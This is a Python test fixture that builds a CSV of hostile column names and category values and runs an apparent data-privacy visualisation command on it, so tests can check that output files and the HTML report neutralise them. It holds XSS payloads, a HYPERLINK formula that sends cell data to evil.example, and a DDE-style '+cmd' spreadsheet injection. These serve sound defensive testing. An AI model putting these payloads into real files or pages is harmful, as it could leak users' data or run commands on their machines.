"""A table whose column names and category values are hostile (formulas, markup, script,
mathtext, a table-breaking pipe), and the what-if command run on it as a user runs it.

Used by tests/test_hostile_names.py (every output file) and tests/browser/test_report.py (the
HTML report in Chromium)."""

import subprocess
import sys

import numpy as np
import pandas as pd

LINK = '<a href="https://evil.example/">clickme</a>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
MATH = r"$\frac{a}$"
SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
#: Column names: a live link, spreadsheet formulas (=, +, -, @, a tab), a script, an image
#: with a handler, bold and styled markup, mathtext, a dollar, a pipe.
COLUMNS = [LINK, FORMULA, "+cmd|' /C calc'!A0", "@SUM(1)", "\tlead", SCRIPT, IMAGE,
           "<b>bold</b>", '<span style="font-size:60px;color:red">big</span>', MATH,
           "income ($)", "a|b", "-2+3"]
#: A categorical column (one-hot: its names are "@city_<level>") with hostile levels.
CATEGORY = "@city"
LEVELS = ["<i>x</i>", "=1+1", "$y$"]
TARGET = "cost"
Y_RANGE = ("-2", "10")
#: Protected in the run with --private: a link, mathtext that used to crash, a formula.
PRIVATE = [LINK, MATH, FORMULA]
TINY = ["--grid", "hot.depth=0,1", "--grid", "hot.t=1,2", "--grid", "hot.rho=0.5",
        "--grid", "hot.min_samples_leaf=0", "--grid", "hist.zeta=0.05",
        "--grid", "tree.max_depth=1,2", "--grid", "tree.min_samples_leaf=10",
        "--grid", "krr.k=2"]


def write_table(folder, n=200, seed=0):
    """The hostile table as ``folder / "hostile.csv"``; returns its path."""
    rng = np.random.default_rng(seed)
    frame = pd.DataFrame(rng.random((n, len(COLUMNS))), columns=COLUMNS)
    frame[CATEGORY] = rng.choice(LEVELS, n)
    frame[TARGET] = 4 * frame[LINK] + 2 * frame[MATH] + rng.normal(0, 0.5, n)
    path = folder / "hostile.csv"
    frame.to_csv(path, index=False)
    return path


def feature_names():
    """The names the loader gives the features (a header cell is stripped of its spaces and
    tabs; the categorical column becomes one column per level)."""
    return [c.strip() for c in COLUMNS] + [f"{CATEGORY}_{level}" for level in sorted(LEVELS)]


def run_realdata(csv, out, *extra):
    """``python -m ldpviz realdata`` on ``csv`` into ``out``, as a user runs it."""
    argv = [sys.executable, "-m", "ldpviz", "realdata", str(csv), "--target", TARGET,
            "--y-range", *Y_RANGE, "--categorical", "onehot", "--epsilon", "2", "--reps", "3",
            "--no-cache", "--no-progress", "--out", str(out), *TINY, *extra]
    return subprocess.run(argv, capture_output=True, text=True, timeout=600)
